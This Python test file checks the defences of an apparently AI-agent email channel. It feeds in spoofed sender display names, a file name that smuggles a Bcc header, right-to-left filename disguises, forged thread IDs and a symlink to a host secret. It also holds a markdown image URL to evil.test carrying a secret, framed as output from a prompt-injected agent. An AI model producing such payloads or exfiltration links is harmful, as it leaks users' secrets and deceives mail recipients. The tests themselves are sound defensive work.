"""The email channel read as an attacker: each test is an attack that worked before its fix.

Pure functions where the attack is in parsing; the adapter against the real state database
and a real SMTP server (aiosmtpd) where the attack is in what the channel does with a mail.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
from email.message import EmailMessage
from pathlib import Path

import pytest

from gateway_bot.channels.email import mime
from gateway_bot.channels.email.adapter import MAX_ATTACHMENTS, EmailAdapter
from gateway_bot.channels.email.auth import Refused, check_dmarc, single_sender
from gateway_bot.channels.email.compose import Outgoing, build_mail, read_files
from gateway_bot.channels.email.quotes import MAX_HTML_CHARS, html_to_text
from gateway_bot.config.channels import EmailChannelSettings
from gateway_bot.core.workspaces.inbox_files import InboxWriter
from gateway_bot.domain.messages import InboundMessage, RawMessage
from gateway_bot.state.database import Database
from tests.support.email_fixtures import ALICE, TRUSTED_ID, mail, passed, text_of
from tests.support.smtp_catcher import SmtpCatcher

BOT = "bot@example.test"


def _from(value: str, domain: str) -> EmailMessage:
    raw = (
        f"Authentication-Results: {passed(domain)}\r\nFrom: {value}\r\nTo: {BOT}\r\n"
        "Subject: hi\r\n\r\nhello\r\n"
    ).encode()
    return mime.parse_bytes(raw)


# -- who the sender is ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=?utf-8?q?boss=40example.test?= <mallory@evil.test>",
        '"boss@example.test" <mallory@evil.test>',
        "=?utf-8?b?Ym9zcyBAIGV4YW1wbGUudGVzdA==?= <mallory@evil.test>",
        "=?utf-8?q?boss=EF=BC=A0example.test?= <mallory@evil.test>",
        "=?utf-8?q?=E2=80=AEtset.elpmaxe=EF=B9=ABssob?= <mallory@evil.test>",
    ],
    ids=["encoded-word", "quoted", "spaced", "full-width-at", "right-to-left"],
)
def test_a_display_name_dressed_as_an_address_never_names_the_sender(value: str) -> None:
    """The approval card is titled with the sender's name: a name that reads as another
    address would have the owner allow ``boss@example.test`` when it is mallory."""
    message = _from(value, "evil.test")
    sender = single_sender(message)
    check_dmarc(message, sender, TRUSTED_ID)

    assert sender.address == "mallory@evil.test"
    assert sender.name == "mallory@evil.test"


def test_a_quoted_local_part_holding_another_address_is_refused() -> None:
    """``"boss@example.test"@evil.test`` passes DMARC for evil.test, and unquoted it is the
    string ``boss@example.test@evil.test``: on a card, in the allowlist and in RCPT TO it
    reads as someone else's address."""
    message = _from('"boss@example.test"@evil.test', "evil.test")

    with pytest.raises(Refused, match="no usable address"):
        single_sender(message)


def test_a_pass_beside_a_fail_in_the_trusted_header_is_no_pass() -> None:
    """Two DMARC verdicts in the MX's own header contradict each other: the pass among
    them was read as enough before."""
    raw = (
        f"Authentication-Results: {TRUSTED_ID}; dmarc=fail header.from=example.test;"
        " dmarc=pass header.from=example.test\r\nFrom: alice@example.test\r\n\r\nhi"
    )
    message = mime.parse_bytes(raw.encode())

    with pytest.raises(Refused, match="dmarc=fail"):
        check_dmarc(message, single_sender(message), TRUSTED_ID)


# -- threading -----------------------------------------------------------------------------


def test_a_forged_message_id_of_ours_cannot_name_an_unbounded_thread() -> None:
    """Thread keys become conversation keys, Message-IDs and subjects: one taken from a
    forged ``<gwb.{thread}...>`` is bounded like a subject tag."""
    assert mime.thread_of_our_id(f"<gwb.{'a' * 5000}.1@example.test>") is None
    assert mime.thread_of_our_id("<gwb.abcdef12.1@example.test>") == "abcdef12"


# -- HTML that costs the converter ---------------------------------------------------------


def test_html_nested_too_deep_for_the_converter_still_yields_its_words() -> None:
    """Before: RecursionError, so the mail was rejected as unparseable."""
    assert html_to_text("<div>" * 5000 + "deep words") == "deep words"


def test_thousands_of_inline_quotes_keep_every_answer() -> None:
    """Quote detection compared every string with every quote's descendants (cubic: this
    mail held intake for minutes); it is one pass now."""
    html = "".join(
        f"<blockquote type=cite>question {n}</blockquote><p>answer {n}</p>" for n in range(3000)
    )
    assert len(html) < MAX_HTML_CHARS

    text = html_to_text(html)

    assert "> question 2999" in text, "an inline reply keeps its questions"
    assert "answer 0" in text
    assert "answer 2999" in text


def test_html_too_big_to_convert_is_read_from_the_plain_alternative() -> None:
    """A 5 MB table took BeautifulSoup and markdownify about a minute, on the event loop,
    holding every channel's intake."""
    table = "<table>" + ("<tr>" + "<td>cell</td>" * 300 + "</tr>") * 1000 + "</table>"
    message = mail("big", "the plain words", html=table)

    assert mime.body_text(mime.parse_bytes(message.as_bytes())) == "the plain words"


def test_html_too_big_to_convert_without_a_plain_part_yields_its_bare_text() -> None:
    message = EmailMessage()
    message["From"] = ALICE
    html = "<script>steal()</script><p>" + "<b>word</b> " * 100_000 + "<" * 100_000
    message.set_content(html, subtype="html")

    text = mime.body_text(mime.parse_bytes(message.as_bytes()))

    assert text.startswith("word word")
    assert "steal" not in text


# -- outgoing files ------------------------------------------------------------------------


def test_outbox_file_names_cannot_break_or_disguise_the_reply(tmp_path: Path) -> None:
    """The agent names its files. A CR/LF made the reply unbuildable (ValueError: the
    answer was lost); a right-to-left override shows ``exe.png`` for ``gnp.exe``."""
    sent = tmp_path / "sent"
    sent.mkdir()
    (sent / "a\r\nBcc: mallory@evil.test").write_bytes(b"one")
    (sent / "\u202egnp.exe").write_bytes(b"two")
    files, problems = read_files(tuple(str(p) for p in sorted(sent.iterdir())), 1000)
    outgoing = Outgoing(BOT, ALICE, "s", "abcdef12", "<m@example.test>", ("<m@example.test>",))

    mail_out = build_mail(outgoing, "<gwb.abcdef12.1@example.test>", "done", files=tuple(files))

    assert problems == []
    names = sorted(str(part.get_filename()) for part in mail_out.iter_attachments())
    assert names == ["a_Bcc_mallory_evil.test", "gnp.exe"]
    assert b"\nBcc:" not in mail_out.as_bytes()


def test_an_image_in_the_agents_answer_fetches_nothing_when_the_mail_is_opened() -> None:
    """A prompt-injected agent cannot reach evil.test (egress allowlist), but an
    ``<img>`` in its answer is fetched by the user's mail client on opening: secrets in
    the URL would leave with no click."""
    outgoing = Outgoing(BOT, ALICE, "s", "abcdef12", "", ())
    answer = (
        "Done.\n\n![status](https://evil.test/p.png?key=SECRET)\n\n![x][r]\n\n[r]: https://e.test/q"
    )

    mail_out = build_mail(outgoing, "<gwb.abcdef12.1@example.test>", answer)

    part = mail_out.get_body(preferencelist=("html",))
    assert part is not None
    rendered = str(part.get_content())
    assert "<img" not in rendered
    assert '<a href="https://evil.test/p.png?key=SECRET">status</a>' in rendered


def test_an_outbox_link_is_never_followed(tmp_path: Path) -> None:
    secret = tmp_path / "host-secret"
    secret.write_text("root-only")
    sent = tmp_path / "sent"
    sent.mkdir()
    os.symlink(secret, sent / "report.txt")

    files, problems = read_files((str(sent / "report.txt"),), 1000)

    assert files == []
    assert [p.split(" (")[0] for p in problems] == ["report.txt could not be read"]


# -- attachments, through the adapter ------------------------------------------------------


async def _parsed(adapter: EmailAdapter, raw: bytes) -> InboundMessage:
    parsed = await _parse(adapter, raw)
    assert isinstance(parsed, InboundMessage)
    return parsed


async def _parse(adapter: EmailAdapter, raw: bytes) -> InboundMessage | None:
    """As the core does with a mail the listener kept."""
    await adapter.listener.open_store()
    digest = hashlib.sha256(raw).hexdigest()
    key = f"sha256:{digest}"
    await adapter._store.keep_raw("INBOX", 1, int(digest[:8], 16), key, raw)
    parsed = await adapter.authenticate_and_parse(
        RawMessage(
            channel="email",
            message_id=key,
            sender="",
            payload={"message_key": key},
            received_at=0.0,
        )
    )
    assert parsed is None or isinstance(parsed, InboundMessage)
    return parsed


def _settings(smtp: SmtpCatcher, *allowed: str) -> EmailChannelSettings:
    return EmailChannelSettings(
        address=BOT,
        imap_host="127.0.0.1",
        imap_password="unused",
        smtp_host="127.0.0.1",
        smtp_port=smtp.port,
        smtp_tls="none",
        trusted_authserv_id=TRUSTED_ID,
        allowed_senders=[ALICE, *allowed],
    )


def test_a_mail_of_thousands_of_tiny_attachments_fills_the_inbox_only_to_the_limit(
    tmp_path: Path, smtp_catcher: SmtpCatcher
) -> None:
    message = mail("files", "see attached", to=BOT)
    for number in range(MAX_ATTACHMENTS + 400):
        message.add_attachment(
            b"x", maintype="application", subtype="octet-stream", filename=f"f{number}.bin"
        )
    (tmp_path / "conversation" / "inbox").mkdir(parents=True)

    async def scenario() -> list[str]:
        database = Database()
        await database.open(tmp_path / "state.db")
        try:
            adapter = EmailAdapter(_settings(smtp_catcher), database)
            inbound = await _parsed(adapter, message.as_bytes())
            return await adapter.save_attachments(inbound, InboxWriter(tmp_path / "conversation"))
        finally:
            await database.close()

    saved = asyncio.run(scenario())

    assert len(saved) == MAX_ATTACHMENTS
    assert len(list((tmp_path / "conversation" / "inbox").iterdir())) == MAX_ATTACHMENTS
    notice = smtp_catcher.wait_for(ALICE)[0]
    assert f"only the first {MAX_ATTACHMENTS} were saved" in text_of(notice)


def test_a_stranger_replying_into_a_thread_is_never_its_owner(
    tmp_path: Path, smtp_catcher: SmtpCatcher
) -> None:
    """Every way into alice's thread (In-Reply-To our reply, References, the subject tag,
    alice's own Message-ID reused as the stranger's): the stranger, allowlisted or not, is a
    new sender there, and the answer goes to the stranger, never to alice."""
    first = mail("plan", "hello", to=BOT)

    async def scenario() -> list[InboundMessage]:
        database = Database()
        await database.open(tmp_path / "state.db")
        try:
            adapter = EmailAdapter(_settings(smtp_catcher, "*@evil.test"), database)
            owner = await _parsed(adapter, first.as_bytes())
            thread = str(owner.conversation_key)
            ours = f"<gwb.{thread}.1700000000000@example.test>"
            attacks = [
                mail("x", "1", sender="mallory@evil.test", to=BOT, in_reply_to=ours),
                mail("x", "2", sender="mallory@evil.test", to=BOT, references=f"<a@b> {ours}"),
                mail(f"Re: [ID:{thread}] plan", "3", sender="mallory@evil.test", to=BOT),
            ]
            reused = mail("x", "4", sender="mallory@evil.test", to=BOT)
            del reused["Message-ID"]
            reused["Message-ID"] = str(first["Message-ID"])
            attacks.append(reused)
            return [owner] + [await _parsed(adapter, m.as_bytes()) for m in attacks]
        finally:
            await database.close()

    owner, *strangers = asyncio.run(scenario())

    assert owner.sender_allowed
    for stranger in strangers:
        assert stranger.conversation_key == owner.conversation_key
        assert stranger.sender_id == "mallory@evil.test"
        assert stranger.channel_context["to"] == "mallory@evil.test"
        assert not stranger.sender_allowed


def test_control_characters_in_subject_and_ids_never_reach_our_headers() -> None:
    """An encoded subject decodes to anything (NUL, ESC, a bidi override) and a
    Message-ID may hold raw control bytes; both were copied into the reply's headers,
    where a server refuses the reply (NUL) or a client shows a disguised subject."""
    raw = (
        b"From: alice@example.test\r\nSubject: =?utf-8?q?plan=00=1B[31m=E2=80=AEtxt.exe?=\r\n"
        b"Message-ID: <a\x00b@example.test>\r\nIn-Reply-To: <c\x7fd@example.test>\r\n\r\nhi"
    )
    message = mime.parse_bytes(raw)
    subject = mime.base_subject(str(message["Subject"]))
    outgoing = Outgoing(BOT, ALICE, subject, "abcdef12", "", tuple(mime.message_ids(raw.decode())))

    sent = build_mail(outgoing, "<gwb.abcdef12.1@example.test>", "ok").as_bytes()

    assert subject == "plan [31m txt.exe"
    assert mime.references_newest_first(message) == []
    assert not any(byte < 0x20 and byte not in b"\r\n\t" for byte in sent)


def test_the_same_mail_delivered_twice_is_answered_once_and_a_reused_id_hides_nothing(
    tmp_path: Path, smtp_catcher: SmtpCatcher
) -> None:
    """A copy with other bytes (another Received line: an alias forwarding into the
    mailbox) was a second task with a second answer. Per sender: mallory reusing alice's
    Message-ID (it is in every reply-all) neither hides alice's mail nor is dropped."""
    original = mail("plan", "hello", to=BOT)
    copy = mime.parse_bytes(b"Received: from alias.example.test\r\n" + original.as_bytes())
    mallory = mail("plan", "mine", sender="mallory@evil.test", to=BOT)
    del mallory["Message-ID"]
    mallory["Message-ID"] = str(original["Message-ID"])

    async def scenario() -> list[InboundMessage | None]:
        database = Database()
        await database.open(tmp_path / "state.db")
        try:
            adapter = EmailAdapter(_settings(smtp_catcher), database)
            first = await _parsed(adapter, original.as_bytes())
            again = await _parsed(adapter, original.as_bytes())  # a retry: same key
            copied = await _parse(adapter, copy.as_bytes())
            return [first, again, copied, await _parse(adapter, mallory.as_bytes())]
        finally:
            await database.close()

    first, again, copied, other = asyncio.run(scenario())

    assert first is not None
    assert again is not None
    assert copied is None
    assert other is not None
    assert other.sender_id == "mallory@evil.test"
